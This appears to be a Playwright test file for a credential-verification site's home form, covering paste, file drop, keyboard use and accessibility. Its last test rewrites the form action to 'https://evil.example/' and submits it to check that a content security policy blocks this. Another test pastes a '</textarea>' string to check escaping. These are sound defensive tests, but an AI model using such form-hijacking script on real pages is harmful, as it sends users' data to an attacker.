"""The first page's one field in a real browser, without script: pasted, dropped, sent by keyboard."""

from __future__ import annotations

from http import HTTPStatus
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, expect

from tests import makers
from tests.browser.test_pages import opened, violations
from tests.http.fake_laurel import Laurel, id_of
from tests.http.public.test_home import at_domain
from tests.http.public.test_pages import HEADLINES
from tests.http.senders import stranger

FIELD = "Paste a link to the credential, or the credential itself"
FILE = "Or upload a file"
REFUSED = (
    "error: Failed to load resource: the server responded with a status of "
    f"422 ({HTTPStatus.UNPROCESSABLE_ENTITY.phrase})"  # differs between Python versions
)
"""What Chromium itself says about a page with status 422."""
WIDTHS = pytest.mark.parametrize("width", [375, 1280])


def look(width: int) -> dict[str, object]:
    return {"viewport": {"width": width, "height": 812}, "java_script_enabled": False}


def paste(page: Page, text: str) -> None:
    page.get_by_label(FIELD).fill(text)
    page.get_by_role("button", name="Check credential").click()


def judged(browser: Browser, page: Page, width: int, picture: Path) -> None:
    """A page that was shown without script, again with it, because axe-core is one."""
    page.screenshot(path=picture, full_page=True)
    again = browser.new_page(viewport={"width": width, "height": 812})
    again.set_content(page.content())
    assert violations(again) == []
    assert again.evaluate("document.documentElement.scrollWidth") <= width
    again.close()


@WIDTHS
def test_pasted_credential_is_judged(chromium: Browser, laurel: Laurel, screenshots: Path, width: int) -> None:
    with opened(chromium, f"{laurel.base_url}/", **look(width)) as (page, words):
        paste(page, laurel.issuer_store.record(id_of("valid")).document.decode())
        expect(page.get_by_role("heading", name=HEADLINES["valid"])).to_be_visible()
        expect(page.get_by_text("Ada Nwosu")).to_be_visible()
        judged(chromium, page, width, screenshots / f"brought-valid-{width}.png")
        assert words == []


@WIDTHS
@pytest.mark.parametrize("kind", ["nobody", "domain", "tampered"])
def test_strangers_credential_is_judged(
    chromium: Browser, laurel: Laurel, screenshots: Path, width: int, kind: str
) -> None:
    source = at_domain(laurel, "did:web:riverside.example") if kind == "domain" else makers.as_bytes(stranger())
    source = source.replace(b"Ada Nwosu", b"Eve Malory") if kind == "tampered" else source
    with opened(chromium, f"{laurel.base_url}/", **look(width)) as (page, words):
        paste(page, source.decode())
        expect(
            page.get_by_role("heading", name=HEADLINES["tampered" if kind == "tampered" else "valid"])
        ).to_be_visible()
        judged(chromium, page, width, screenshots / f"brought-{kind}-{width}.png")
        assert words == []


@WIDTHS
def test_dropped_file_is_judged(
    chromium: Browser, laurel: Laurel, screenshots: Path, tmp_path: Path, width: int
) -> None:
    file = tmp_path / "a badge of mine.json"
    file.write_bytes(laurel.issuer_store.record(id_of("suspended")).document)
    with opened(chromium, f"{laurel.base_url}/", **look(width)) as (page, words):
        box = page.get_by_label(FILE).bounding_box()
        assert box is not None
        assert box["height"] >= 44
        drop(page, box["x"] + box["width"] * 0.9, box["y"] + box["height"] / 2, file)
        page.screenshot(path=screenshots / f"home-dropped-{width}.png", full_page=True)
        page.get_by_role("button", name="Check credential").click()
        expect(page.get_by_role("heading", name=HEADLINES["suspended"])).to_be_visible()
        assert words == []


def drop(page: Page, x: float, y: float, file: Path) -> None:
    """Drag ``file`` from the desktop onto the page."""
    devtools = page.context.new_cdp_session(page)
    data = {"items": [], "files": [str(file)], "dragOperationsMask": 1}
    for kind in ("dragEnter", "dragOver", "drop"):
        devtools.send("Input.dispatchDragEvent", {"type": kind, "x": x, "y": y, "data": data})


@WIDTHS
def test_nonsense_is_told_and_kept_for_another_try(
    chromium: Browser, laurel: Laurel, screenshots: Path, width: int
) -> None:
    with opened(chromium, f"{laurel.base_url}/", **look(width)) as (page, words):
        paste(page, "my certificate </textarea> please")
        expect(page.get_by_text("No credential found.", exact=True)).to_be_visible()
        assert page.get_by_label(FIELD).input_value() == "my certificate </textarea> please"
        assert page.get_by_label(FIELD).evaluate("field => field === document.activeElement")
        judged(chromium, page, width, screenshots / f"home-nothing-{width}.png")
        paste(page, laurel.issuer_store.record(id_of("revoked")).document.decode())
        expect(page.get_by_role("heading", name=HEADLINES["revoked"])).to_be_visible()
        assert words == [REFUSED]


@WIDTHS
def test_link_of_ours_opens_its_own_page(chromium: Browser, laurel: Laurel, width: int) -> None:
    with opened(chromium, f"{laurel.base_url}/", **look(width)) as (page, words):
        paste(page, f"{laurel.base_url}{laurel.url('revoked')}\n")
        expect(page.get_by_role("heading", name=HEADLINES["revoked"])).to_be_visible()
        expect(page).to_have_url(f"{laurel.base_url}{laurel.url('revoked')}")
        assert words == []


def test_field_is_sent_by_keyboard_alone(chromium: Browser, laurel: Laurel) -> None:
    with opened(chromium, f"{laurel.base_url}/", **look(1280)) as (page, words):
        for _ in range(2):  # past the link at the top
            page.keyboard.press("Tab")
        page.keyboard.insert_text(laurel.issuer_store.record(id_of("expired")).document.decode())
        for _ in range(2):  # past the file
            page.keyboard.press("Tab")
        page.keyboard.press("Enter")
        page.get_by_role("heading", name=HEADLINES["expired"]).wait_for()  # a key waits for no answer, as a click does
        assert words == []


def test_form_may_be_sent_nowhere_else(chromium: Browser, laurel: Laurel) -> None:
    with opened(chromium, f"{laurel.base_url}/") as (page, words):
        with page.expect_console_message():
            page.evaluate("document.forms[0].action = 'https://evil.example/'; document.forms[0].submit()")
        assert page.url == f"{laurel.base_url}/"
        assert "form-action" in " ".join(words)
